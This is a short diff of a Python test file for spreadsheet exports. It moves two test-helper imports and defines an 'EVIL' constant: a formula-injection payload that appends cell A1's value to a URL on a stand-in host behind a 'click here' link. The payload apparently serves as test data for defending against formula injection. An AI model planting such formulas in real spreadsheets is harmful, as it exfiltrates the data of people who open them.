@@ -8,8 +8,8 @@ import io
 
 import openpyxl
 
-from tests.conftest import csrf_from, login
 from tests.registers.test_console import MONTH, _cases
+from tests.support.web import csrf_from, login
 
 EVIL = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点这里")'
 GRADE = '=HYPERLINK("x")'  # the register keeps 16 characters of a grade
